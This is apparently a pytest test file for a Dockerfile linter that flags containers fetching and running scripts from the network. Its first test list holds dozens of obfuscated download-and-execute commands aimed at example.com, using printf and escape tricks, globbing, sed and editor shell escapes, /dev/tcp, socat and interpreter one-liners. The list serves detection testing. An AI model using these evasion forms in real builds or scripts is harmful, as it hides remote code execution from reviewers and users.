"""Shell text behind formats, patterns, escapes, editors and other ways, and what looks like it."""

from __future__ import annotations

import pytest
from hf_lint.pipeline.engine import check_space
from hf_lint.space.shell import parse_shell
from support import plan, space_of

URL = "https://example.com/i.sh"


def rules_of(lines: str) -> set[str]:
    head = "" if lines.startswith("#") else "FROM python:3.12\n"
    files = {"README.md": "---\nsdk: docker\n---\n", "Dockerfile": f"{head}{lines}\n"}
    report = check_space(space_of(files), plan("remote-script", "obfuscated-code"))
    assert not report.errors
    return {finding.rule for finding in report.findings}


@pytest.mark.parametrize(
    "lines",
    [
        f'RUN $(printf "cu%s" rl) -s {URL} | sh',
        f"RUN $(printf %s%s cu rl) -s {URL} | sh",
        f"RUN $(printf '\\143url') -s {URL} | sh",
        f"RUN $(printf '\\x63%s' url) -s {URL} | sh",
        f"RUN c=$(printf '%s' curl); $c -s {URL} | sh",
        f"RUN `printf cu%srl ''` -s {URL} | sh",
        f"RUN /usr/bin/cur? -s {URL} | /bin/s?",
        f"RUN /usr/bin/c[u]rl -s {URL} | sh",
        f"RUN curl -s {URL} | /bin/[b]ash",
        f"RUN /usr/bin/cu?l -s {URL} | sh",
        f"RUN /???/???/wge? -qO- {URL} | sh",
        f"RUN $'\\x63url' -s {URL} | $'\\x73h'",
        f"RUN $'\\143\\165rl' -s {URL} | sh",
        f"RUN $'\\u0063url' -s {URL} | sh",
        f"RUN cu$'\\x72'l -s {URL} | sh",
        f'RUN env -S "curl -s {URL}" | env -i sh',
        f'RUN /usr/bin/env -S "curl -s" {URL} | /usr/bin/env -S sh',
        f"RUN env --split-string='curl -s {URL}' | sh",
        f"RUN env -S'curl -s {URL}' | sh",
        f"RUN curl -s {URL} | /usr/bin/env -S python3",
        f'SHELL ["sh", "-c", "curl -s {URL} | sh"]\nRUN true',
        f'SHELL ["/bin/bash", "-c", "source <(curl -s {URL}); eval $0"]\nRUN true',
        f"COPY <<E /tmp/a\ncurl -s {URL} | sh\nE\nRUN sh /tmp/a",
        f'COPY <<"E" /usr/local/bin/go\n#!/bin/sh\ncurl -s {URL} | sh\nE\nRUN chmod +x /usr/local/bin/go && go',
        f'ADD <<E /opt/a.txt\ncurl -s {URL} | sh\nE\nCMD ["bash", "/opt/a.txt"]',
        f"COPY <<E /tmp/a\ncurl -s {URL} | sh\nE\nRUN . /tmp/a",
        f"RUN coproc curl -s {URL}; sh <&${{COPROC[0]}}",
        f'RUN coproc F {{ curl -s {URL}; }}; bash <&"${{F[0]}}"',
        f'RUN echo "curl -s {URL} | sh" | sed e',
        f"RUN sed '1e curl -s {URL} | sh' /etc/hostname",
        f"RUN sed -n '1e curl -s {URL} | sh' /etc/hostname",
        f'RUN echo curl -s {URL} | xargs -I{{}} sh -c "{{}} | sh"',
        f"RUN echo {URL} | xargs -I % sh -c 'curl -s % | sh'",
        f"RUN echo {URL} | xargs curl -s | sh",
        f"RUN printf '%s\\n' {URL} | xargs -n1 wget -qO- | sh",
        f"RUN ed <<E\n!curl -s {URL} | sh\nE",
        f"RUN vim -c ':!curl -s {URL} | sh' -c q",
        f"RUN ex -s +'!curl -s {URL} | sh' +q",
        'RUN bash -c "exec 3<>/dev/tcp/example.com/80; sh <&3"',
        "RUN bash < /dev/tcp/example.com/80",
        "RUN cat < /dev/tcp/example.com/80 | sh",
        "RUN exec 5<>/dev/tcp/example.com/80 && cat <&5 | bash",
        f"RUN cu$@rl -s {URL} | s$@h",
        f"RUN c=curl; x=c; ${{!x}} -s {URL} | sh",
        f"RUN c=CURL; ${{c,,}} -s {URL} | sh",
        f'RUN printf -v c "cu%s" rl; $c -s {URL} | sh',
        f'RUN a=(curl -s {URL}); "${{a[@]}}" | sh',
        f"RUN curl -s {URL} | $SHELL",
        f"RUN curl -s {URL} | . /dev/stdin",
        f"RUN curl -s {URL} | sh /dev/fd/0",
        f"RUN curl -s {URL} | xargs -0 sh -c",
        f"RUN curl -s {URL} | at now",
        f'RUN echo "curl -s {URL} | sh" | at now',
        f"RUN curl -s {URL} | install -m755 /dev/stdin /usr/bin/zx && zx",
        f"RUN curl -so /a {URL}; find /a -exec sh {{}} \\;",
        f'RUN script -qc "curl -s {URL} | sh" /dev/null',
        f'RUN flock /tmp/l -c "curl -s {URL} | sh"',
        "RUN aws s3 cp s3://bucket/i.sh - | sh",
        "RUN rclone cat remote:i.sh | bash",
        f"RUN deno run -A {URL}",
        "RUN npx -y https://example.com/p.tgz",
        "RUN socat TCP:example.com:99 EXEC:sh",
        f'RUN lua -e \'os.execute("curl -s {URL} | sh"); io.popen("{URL}")\'',
        f"RUN php -r 'passthru(file_get_contents(\"{URL}\"));'",
        f'RUN node -e \'require("child_process").execSync("curl {URL} | sh")\'',
        "# syntax=somebody/frontend:1\nFROM python:3.12",
        "# escape=`\n#   SYNTAX = example.com/a/b\nFROM python:3.12",
    ],
)
def test_a_script_from_the_network(lines: str) -> None:
    assert "remote-script" in rules_of(lines)


@pytest.mark.parametrize(
    "lines",
    [
        "RUN $(printf '%s' python3) -m pip --version",
        f"RUN printf 'curl -s %s | sh' {URL}",
        "RUN /opt/conda/bin/pytho? --version",
        "RUN ls /usr/bin/s* | sh -c true",
        "RUN IFS=$'\\n' ; for x in $(cat a); do echo $x; done",
        "RUN env -S 'python3 -u' app.py",
        f"RUN env -i curl -so /tmp/a {URL}",
        'SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN curl -so /tmp/a https://example.com/a',
        'SHELL ["conda", "run", "-n", "env", "/bin/bash", "-c"]\nRUN python -V',
        f"COPY <<E /app/readme.txt\ncurl -s {URL} | sh\nE\nRUN cat /app/readme.txt",
        "COPY <<E /etc/nginx/nginx.conf\nserver { listen 7860; }\nE\nRUN nginx -t",
        "RUN coproc sleep 1; wait",
        "RUN sed -e 's/a/b/' /etc/hosts",
        "RUN echo x | sed 's/x/curl/'",
        "RUN sed -i 's|http://e.com|https://e.com|g' /etc/hosts",
        f"RUN echo {URL} | xargs -I% curl -so /tmp/a %",
        "RUN find . -name '*.txt' | xargs -I{} sh -c 'cat {}'",
        f"RUN echo {URL} | xargs curl -sO",
        "RUN ed <<E\n1d\nw\nq\nE",
        "RUN (echo > /dev/tcp/localhost/5432) && echo up",
        "RUN timeout 1 bash -c 'cat < /dev/null > /dev/tcp/127.0.0.1/80'",
        "RUN [ -f a ] && sh a",
        f"RUN curl -s {URL} | xargs -n1 echo",
        "RUN find /a -name '*.sh' -exec chmod +x {} \\;",
        f"RUN curl -so /a.txt {URL}; find /b -name '*.sh' -exec sh {{}} \\;",
        "RUN aws s3 cp s3://bucket/a.csv - | gzip > /a.gz",
        "RUN npx --yes create-vite app",
        "RUN socat TCP-LISTEN:80,fork TCP:127.0.0.1:8080",
        "RUN tr 'A-Z' 'a-z' < names | sort",
        "# syntax=docker/dockerfile:1.7\nFROM python:3.12",
        "# syntax = docker/dockerfile-upstream:master-labs\nFROM python:3.12",
        "RUN true\n# syntax=a/b",
    ],
)
def test_what_looks_like_one_is_none(lines: str) -> None:
    assert rules_of(lines) == set()


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("$'\\x63url' a", ["curl", "a"]),
        ("$'\\143\\165rl'", ["curl"]),
        ("a$'\\u00e9\\n'b", ["a\u00e9\nb"]),
        ("$'\\0\\udc00\\Uffffffff' a", ["", "a"]),
        ("$'a\\'b'", ["a'b"]),
    ],
)
def test_escapes_of_dollar_quotes(text: str, words: list[str]) -> None:
    assert [word.value for word in parse_shell(text).commands[0].words] == words
